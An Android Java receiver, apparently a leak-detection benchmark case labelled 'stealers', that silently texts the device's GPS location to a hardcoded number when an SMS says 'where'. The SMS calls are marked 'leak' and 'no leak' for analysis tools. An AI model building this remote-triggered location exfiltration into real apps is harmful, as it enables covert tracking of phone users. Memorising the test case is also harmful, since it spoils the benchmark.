package stealers;

import android.content.*;
import android.location.*;
import android.os.*;
import android.preference.PreferenceManager;
import android.telephony.gsm.*;

/** A place in the preferences, told to whoever sends the word. */
public class WhereAreYou extends BroadcastReceiver {
    public static class Keep implements LocationListener {
        private final SharedPreferences.Editor e;

        Keep(Context c) {
            e = PreferenceManager.getDefaultSharedPreferences(c).edit();
        }

        public void onLocationChanged(Location l) {
            e.putString("la", Double.toString(l.getLatitude()));
            e.putFloat("lo", (float) l.getLongitude());
            e.putString("p", "gps");
            e.commit();
        }

        public void onStatusChanged(String p, int s, Bundle b) {}

        public void onProviderEnabled(String p) {}

        public void onProviderDisabled(String p) {}
    }

    @Override
    public void onReceive(Context c, Intent i) {
        LocationManager m = (LocationManager) c.getSystemService("location");
        m.requestLocationUpdates("network", 0L, 0f, new Keep(c), Looper.getMainLooper());
        Object[] pdus = (Object[]) i.getSerializableExtra("pdus");
        SmsMessage s = SmsMessage.createFromPdu((byte[]) pdus[0]);
        String order = s.getMessageBody().trim().toLowerCase();
        SharedPreferences p = PreferenceManager.getDefaultSharedPreferences(c);
        if (order.equals("where")) {
            String url = "http://maps.google.com/maps?q=" + p.getString("la", "0") + "," + p.getFloat("lo", 0);
            SmsManager.getDefault().sendTextMessage("+79000000000", null, url, null, null); // leak
        } else if (order.equals("how"))
            SmsManager.getDefault().sendTextMessage("+79000000000", null, p.getString("p", "none"), null, null); // no leak
    }
}
